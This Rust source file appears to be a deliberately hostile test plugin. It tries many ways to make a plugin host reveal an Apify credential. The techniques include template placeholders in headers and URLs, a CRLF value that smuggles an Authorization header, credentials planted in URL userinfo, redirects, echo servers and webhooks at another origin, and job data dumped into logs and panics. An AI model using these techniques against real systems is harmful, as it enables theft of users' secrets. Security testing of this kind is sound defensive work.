//! Ways to come by a credential: each asks for something that would show it, if anything did.
//!
//! Owns: what is planned for each way. The identifier of a source of the kind `theft` names the way and, behind an `@`, the
//! origin it is tried at. Must not know: the token, of course; the test looks for it in what came back.

use crate::bindings::tidegate::plugin::log::{self, Level};
use crate::bindings::tidegate::plugin::types::{
    ActorRun, BodyForm, Failure, FailureCategory, Fetch, Header, HttpRequest, Job, Step,
};

/// What it hopes somebody fills in for it.
const WISHES: &str =
    "{{credential.apify}} ${APIFY_TOKEN} ${TIDEGATE_CREDENTIAL_APIFY} %APIFY_TOKEN% {{token}} file:token";

/// The first step of a way.
pub(crate) fn plan(job: &Job) -> Result<Step, Failure> {
    let (way, origin) = job.identifier.split_once('@').unwrap_or((&job.identifier, ""));
    // Whatever it was given, somebody may read its log.
    log::line(Level::Debug, &format!("{job:?}"));
    match way {
        // The platform itself, as anybody may ask it: does the host add the token by the origin alone?
        "platform" => Ok(get(format!("{origin}/v2/users/me"), vec![])),
        // A server of its own that says back all it was sent.
        "echo" => Ok(get(format!("{origin}/echo"), vec![])),
        // The field itself, filled by the host.
        "field" => Ok(get(format!("{origin}/echo"), vec![("Authorization", WISHES)])),
        // The field smuggled in behind a line break.
        "smuggled" => Ok(get(format!("{origin}/echo"), vec![("X-Note", "a\r\nAuthorization: ${APIFY_TOKEN}")])),
        // Templates in fields and in the address.
        "template" => {
            let address = format!("{origin}/echo?token=${{APIFY_TOKEN}}&apify={{{{credential.apify}}}}");
            Ok(get(address, vec![("X-Wish", WISHES)]))
        }
        // A place for user and password in the address.
        "userinfo" => Ok(get(origin.replacen("://", "://${APIFY_TOKEN}:x@", 1), vec![])),
        // Its own server, which sends the host on to the platform, and the answer back.
        "redirect" => Ok(get(format!("{origin}/redirect"), vec![])),
        // Another actor and another origin, in the one place where a plugin may say more.
        "elsewhere" => Ok(actor(
            r#"{"username":["thief.elsewhere"],"resultsLimit":3}"#,
            Some(format!(
                r#"{{"events":{{}},"actor":"thief/collector","origin":"{origin}","credential":"apify","webhooks":"{origin}/echo"}}"#
            )),
        )),
        // An actor that is asked to say what it knows.
        "input" => Ok(actor(
            r#"{"username":["thief.input"],"resultsLimit":3,"echo":"${APIFY_TOKEN} {{credential.apify}}","proxy":{"token":true}}"#,
            None,
        )),
        // The way every plugin goes: what the platform says in its answers may quote a token.
        "reflected" => Ok(actor(r#"{"username":["thief.reflected"],"resultsLimit":3}"#, None)),
        "refused" => Ok(actor(r#"{"username":["thief.refused"],"resultsLimit":3}"#, None)),
        // What stands around the process.
        #[cfg(feature = "wasi")]
        "outside" => Err(told(&crate::outside::look())),
        // Everything it was handed, as the reason of a failure, and then a panic that quotes it.
        "told" => Err(told(&format!("{job:?}"))),
        "panic" => {
            crate::say_error(&format!("panicked with {job:?}"));
            core::arch::wasm32::unreachable()
        }
        _ => Err(told("there is no such way")),
    }
}

fn told(message: &str) -> Failure {
    Failure {
        category: FailureCategory::Other,
        message: message.to_owned(),
        retry_after_s: None,
        pointer: None,
        extra: None,
    }
}

fn get(url: String, headers: Vec<(&str, &str)>) -> Step {
    let headers = headers.into_iter().map(|(name, value)| Header { name: name.to_owned(), value: value.to_owned() });
    let request = HttpRequest {
        method: "GET".to_owned(),
        url,
        headers: headers.collect(),
        body: None,
        want: BodyForm::Text,
        pass_statuses: vec![401],
        extra: None,
    };
    Step { fetch: Fetch::Http(request), state: Some(WISHES.to_owned()), extra: None }
}

fn actor(input: &str, extra: Option<String>) -> Step {
    let run = ActorRun { input: input.to_owned(), max_elements: 3, extra };
    Step { fetch: Fetch::Actor(run), state: Some(WISHES.to_owned()), extra: None }
}
